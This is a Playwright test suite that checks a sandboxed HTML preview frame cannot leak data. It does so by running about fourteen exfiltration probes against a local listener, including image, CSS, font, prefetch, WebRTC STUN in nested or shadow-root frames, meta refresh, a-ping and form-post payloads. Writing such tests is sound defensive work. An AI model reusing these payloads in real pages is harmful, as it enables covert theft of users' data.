// No channel out of the preview frame (SECURITY.md "no channel out"). A hostile public artifact tries
// every way we know to send what it read to a real listener on this machine (HTTPS on a free port,
// plus a UDP socket for STUN); the listener must see nothing. Each probe waits for a sign that the
// browser has dealt with it (a CSP violation, a refused request, the probe's own report, or the
// listener itself), never for a length of time.
import type { Page, Request } from "@playwright/test";
import { expect, test } from "./fixtures";
import {
  appViolations,
  createArtifact,
  createSignedInOwner,
  frameViolations,
  preview,
  previewFrame,
  signInWithCanary,
  watch,
} from "./sandbox/helpers";
import { startListener, type Listener } from "./sandbox/listener";

// The listener's certificate is self-signed: an attacker's would be valid, so the browser must accept it.
test.use({ ignoreHTTPSErrors: true });

let listener: Listener;
test.beforeAll(async ({ browser }) => {
  listener = await startListener();
  await createSignedInOwner(browser);
});
test.afterAll(async () => listener?.close());
test.beforeEach(async ({ context }) => {
  await signInWithCanary(context);
  listener.reset();
});

const DATA = "d=stolen-by-probe";

type Probe = {
  name: string;
  /** HTML of the attack, given the listener's https URL and UDP port. */
  html: (url: string, udpPort: number) => string;
  /**
   * What the browser does with a channel it refuses: "resource" (a subresource request, refused by
   * the preview CSP), "navigation" (the frame's own navigation, refused by the app's frame-src),
   * "report" (the probe writes data-done on <body> when it has finished).
   */
  settles: "resource" | "navigation" | "report";
  /** A navigation of the frame: Chromium opens a TCP connection before frame-src refuses it. */
  navigates?: true;
};

const report = (js: string) =>
  `<script>(async () => { try { ${js} } finally { document.body.dataset.done = "1"; } })();</script>`;

// Hides a click from the shim (which would route the link to the page's "open link?" prompt).
const clickUnseen = (id: string) =>
  `<script>const el = document.getElementById("${id}"); el.addEventListener("click", (e) => e.stopPropagation()); el.click();</script>`;

const stun = (port: number) => `{ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }`;
const webrtc = (port: number) =>
  `const pc = new RTCPeerConnection(${stun(port)}); pc.createDataChannel("x");
   await pc.setLocalDescription(await pc.createOffer());
   await new Promise((ok) => { if (pc.iceGatheringState === "complete") ok(); pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && ok(); });`;

const PROBES: Probe[] = [
  { name: "<img>", settles: "resource", html: (u) => `<img src="${u}/img?${DATA}">` },
  {
    name: "CSS url()",
    settles: "resource",
    html: (u) => `<div style="width:20px;height:20px;background:url('${u}/bg?${DATA}')"></div>`,
  },
  {
    name: "CSS @import",
    settles: "resource",
    html: (u) => `<style>@import url("${u}/import.css?${DATA}");</style>`,
  },
  {
    name: "<link rel=preload|prefetch|dns-prefetch|preconnect>",
    settles: "resource",
    html: (u) =>
      `<link rel="dns-prefetch" href="${u}"><link rel="preconnect" href="${u}"><link rel="prefetch" href="${u}/prefetch?${DATA}">` +
      `<link rel="preload" as="image" href="${u}/preload?${DATA}">`,
  },
  {
    name: "web font",
    settles: "resource",
    html: (u) =>
      `<style>@font-face{font-family:probe;src:url("${u}/font.woff2?${DATA}")}</style><p style="font-family:probe">text</p>`,
  },
  {
    name: "<video> and <audio>",
    settles: "resource",
    html: (u) =>
      `<video autoplay muted src="${u}/v.mp4?${DATA}"></video><audio autoplay src="${u}/a.mp3?${DATA}"></audio>`,
  },
  { name: "WebRTC (STUN over UDP)", settles: "report", html: (_u, p) => report(webrtc(p)) },
  {
    name: "WebRTC in a srcdoc child frame",
    settles: "report",
    html: (_u, p) =>
      `<iframe id="c"></iframe><script>
       addEventListener("message", (e) => { if (e.data === "child done") document.body.dataset.done = "1"; });
       document.getElementById("c").srcdoc = ${JSON.stringify(
         `<script>(async () => { try { ${webrtc(p)} } finally { parent.postMessage("child done", "*"); } })();</script>`,
       ).replace(/<\/script/g, "<\\/script")};
       </script>`,
  },
  {
    // The frame hides in a closed declarative shadow root, out of reach of any script.
    name: "WebRTC in a frame inside a declarative shadow root",
    settles: "report",
    html: (_u, p) =>
      `<script>addEventListener("message", (e) => { if (e.data === "child done") document.body.dataset.done = "1"; });
       // A template still in the document was not turned into a shadow root: no frame will report.
       addEventListener("DOMContentLoaded", () => { if (document.querySelector("template")) document.body.dataset.done = "inert"; });</script>
       <div><template shadowrootmode="closed"><iframe srcdoc="${`<script>(async () => { try { ${webrtc(p)} } finally { parent.postMessage("child done", "*"); } })();</script>`.replace(/&/g, "&amp;").replace(/"/g, "&quot;")}"></iframe></template></div>`,
  },
  {
    name: "WebRTC in a javascript: child frame",
    settles: "report",
    html: (_u, p) =>
      `<script>addEventListener("message", (e) => { if (e.data === "child done") document.body.dataset.done = "1"; });
       const child = ${JSON.stringify(`<script>(async () => { try { ${webrtc(p)} } finally { parent.postMessage("child done", "*"); } })();</script>`).replace(/<\/script/g, "<\\/script")};
       const f = document.createElement("iframe");
       f.src = "javascript:" + JSON.stringify(child);
       document.body.append(f);
       // A frame whose javascript: URL was dropped never reports: say so once the DOM has settled.
       queueMicrotask(() => queueMicrotask(() => { if (!f.hasAttribute("src")) document.body.dataset.done = "dropped"; }));
       </script>`,
  },
  {
    name: "window.open",
    settles: "report",
    html: (u) => report(`window.open("${u}/open?${DATA}");`),
  },
  {
    name: "meta refresh",
    settles: "navigation",
    navigates: true,
    html: (u) => `<meta http-equiv="refresh" content="0;url=${u}/refresh?${DATA}">`,
  },
  {
    name: "<a ping>",
    settles: "navigation",
    navigates: true,
    html: (u) =>
      `<a id="l" href="${u}/nav?${DATA}" ping="${u}/ping?${DATA}">go</a>${clickUnseen("l")}`,
  },
  {
    name: "form post",
    settles: "resource",
    navigates: true,
    html: (u) =>
      `<form id="f" method="post" action="${u}/form"><input name="d" value="stolen-by-probe"></form><script>document.getElementById("f").submit();</script>`,
  },
];

/** Has the browser finished with the probe's request(s)? (Refused by CSP, or answered.) */
async function settled(page: Page, probe: Probe, requests: Request[]): Promise<boolean> {
  if (listener.received().length > 0) return true;
  if (probe.settles === "report") {
    return (await (await previewFrame(page)).locator("body[data-done]").count()) > 0;
  }
  if (probe.settles === "navigation")
    return (await appViolations(page)).some((v) => v.startsWith("frame-src"));
  const outbound = requests.filter((q) => q.url().startsWith(listener.url));
  const violations = (await frameViolations(page)).filter((v) =>
    v.includes(new URL(listener.url).host),
  );
  return violations.length > 0 || outbound.some((q) => q.failure() !== null);
}

for (const probe of PROBES) {
  test(`nothing leaves the frame: ${probe.name}`, async ({ page }) => {
    const id = await createArtifact(
      "html",
      `<!doctype html><html><head><script>
      window.__violations = [];
      document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.effectiveDirective + " " + e.blockedURI));
    </script></head><body>${probe.html(listener.url, listener.udpPort)}</body></html>`,
    );
    const { requests, pages } = await watch(page);
    await page.goto(`/a/${id}`);
    await expect.poll(() => settled(page, probe, requests), { timeout: 20_000 }).toBe(true);
    // Navigations refused by frame-src still open a TCP connection in Chromium (no bytes sent; see
    // the README); every other channel must not even connect.
    const arrived = probe.navigates
      ? [...listener.requests, ...(listener.datagrams ? ["UDP"] : [])]
      : listener.received();
    expect(arrived, `reached ${listener.url}`).toEqual([]);
    expect(pages, "no window opened").toEqual([]);
    expect(page.url()).toMatch(new RegExp(`/a/${id}$`));
  });
}

test("an outside image shows a placeholder naming its URL, and no request is made", async ({
  page,
}) => {
  const src = `${listener.url}/cat.png?${DATA}`;
  const id = await createArtifact("html", `<h1>Gallery</h1><img id="cat" src="${src}" alt="">`);
  await page.goto(`/a/${id}`);
  const img = preview(page).locator("#cat");
  await expect(img).toHaveAttribute("data-vitrine-outside-src", src);
  await expect(img).toHaveAttribute("src", /^data:image\/svg\+xml/);
  await expect(img).toHaveAttribute(
    "title",
    new RegExp(`Not loaded .*${listener.url.replace(/[.]/g, "\\.")}`),
  );
  await expect
    .poll(() => img.evaluate((el) => (el as HTMLImageElement).naturalWidth))
    .toBeGreaterThan(0);
  // An image is not an error in the artifact: no error panel for it.
  await expect(preview(page).getByText("Error in this artifact")).toHaveCount(0);
  expect(listener.received()).toEqual([]);
});
